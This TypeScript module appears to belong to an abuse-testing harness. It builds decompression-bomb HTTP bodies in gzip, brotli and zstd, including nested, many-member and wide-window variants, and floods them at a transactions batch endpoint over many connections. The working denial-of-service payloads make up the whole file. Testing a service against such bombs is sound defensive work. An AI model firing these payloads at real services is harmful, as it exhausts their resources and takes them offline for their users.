// Bodies that are small on the wire and very large decoded: gzip, br and zstd, nested, and in many
// members.

import {
  brotliCompressSync,
  constants,
  createBrotliCompress,
  createZstdCompress,
  gzipSync,
  zstdCompressSync,
} from "node:zlib";
import type { Abuse, AbuseContext, Title } from "../abuse.ts";
import { flooding, holding, requestBytes } from "../sending.ts";

type Encoding = "gzip" | "br" | "zstd";

function compress(encoding: Encoding, bytes: Uint8Array): Buffer {
  if (encoding === "gzip") return gzipSync(bytes);
  if (encoding === "zstd") return zstdCompressSync(bytes);
  return brotliCompressSync(bytes, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } });
}

function bomb(
  title: Title,
  { encoding, type = "application/json" }: { readonly encoding: string; readonly type?: string },
  makeBody: (context: AbuseContext) => Uint8Array,
): Abuse {
  return flooding(title, { connections: [32, 4] }, (context) => {
    const body = makeBody(context);
    const { token } = context.target;
    const headers = { "content-encoding": encoding, "content-type": type };
    const request = requestBytes("POST", "/v2/transactions/batch", { token, headers, body });
    return () => request;
  });
}

function blanks(context: AbuseContext): Buffer {
  return Buffer.alloc(context.amount(256_000_000, 32_000_000), " ");
}

const kinds: readonly Encoding[] = ["gzip", "br", "zstd"];

const windows = [
  ["zstd", "128 MiB"],
  ["br", "16 MiB"],
] as const;

/** Streams that stay open with as much of their window in use as the ratio allows. */
function wideWindow(encoding: "zstd" | "br", size: string): Abuse {
  const title = [
    `${encoding}-windows`,
    `16 streams with windows of ${size}, as ${encoding}`,
  ] as const;
  const many = { connections: [16, 8], addresses: 1, pauseMs: () => 20 } as const;
  return holding(title, many, async (context) => {
    const head = requestBytes("POST", "/v2/transactions/batch", {
      token: context.target.token,
      headers: {
        "content-type": "application/x-ndjson",
        "content-encoding": encoding,
        "content-length": "100000000",
      },
    });
    const start = await compressedStart(encoding, blankLines(context));
    return { first: Buffer.concat([head, start]) };
  });
}

const blockBytes = 32 * 1_024;

/** Blank lines that compress by less than the bound of the ratio: an eighth is tabs and blanks at random. */
function blankLines(context: AbuseContext): Buffer {
  const { random } = context;
  const lines = Buffer.alloc(context.amount(3_000, 600) * blockBytes, " ");
  for (let block = 0; block < lines.length; block += blockBytes) {
    lines[block] = 0x0a;
    for (let at = block + 1; at < block + blockBytes / 8; at += 1) {
      if (random.chance(0.5)) lines[at] = 0x09;
    }
  }
  return lines;
}

/** A stream of compressed bytes that has not ended. */
async function compressedStart(encoding: "zstd" | "br", bytes: Uint8Array): Promise<Buffer> {
  const stream =
    encoding === "zstd"
      ? createZstdCompress({ params: { [constants.ZSTD_c_windowLog]: 27 } })
      : createBrotliCompress({
          params: { [constants.BROTLI_PARAM_LGWIN]: 24, [constants.BROTLI_PARAM_QUALITY]: 3 },
        });
  const parts: Buffer[] = [];
  stream.on("data", (part: Buffer) => parts.push(part));
  stream.write(bytes);
  await new Promise<void>((resolve) => stream.flush(resolve));
  stream.destroy();
  return Buffer.concat(parts);
}

export const bombs: readonly Abuse[] = [
  ...kinds.flatMap((encoding) => [
    bomb([`${encoding}-bomb`, `256 MB of blanks as ${encoding}`], { encoding }, (context) =>
      compress(encoding, blanks(context)),
    ),
    bomb(
      [`${encoding}-stream-bomb`, `a stream that decodes to 256 MB of blanks, as ${encoding}`],
      { encoding, type: "application/x-ndjson" },
      (context) => compress(encoding, blanks(context)),
    ),
  ]),
  bomb(
    ["nested-bomb", "gzip within gzip within gzip"],
    { encoding: "gzip, gzip, gzip" },
    (context) => gzipSync(gzipSync(gzipSync(blanks(context)))),
  ),
  bomb(
    ["nested-bomb-once", "gzip within gzip that is declared as one"],
    { encoding: "gzip" },
    (context) => gzipSync(gzipSync(blanks(context))),
  ),
  bomb(["gzip-members", "a gzip of 200,000 empty members"], { encoding: "gzip" }, (context) =>
    Buffer.concat(Array.from({ length: context.amount(200_000, 20_000) }, () => gzipSync(""))),
  ),
  bomb(["zstd-frames", "a zstd of 200,000 empty frames"], { encoding: "zstd" }, (context) => {
    const frame = zstdCompressSync("");
    return Buffer.concat(Array.from({ length: context.amount(200_000, 20_000) }, () => frame));
  }),
  ...windows.map(([encoding, what]) => wideWindow(encoding, what)),
  bomb(
    ["gzip-members-stream", "a stream of 200,000 gzip members of a blank line"],
    { encoding: "gzip", type: "application/x-ndjson" },
    (context) => {
      const member = gzipSync("\n");
      return Buffer.concat(Array.from({ length: context.amount(200_000, 20_000) }, () => member));
    },
  ),
];
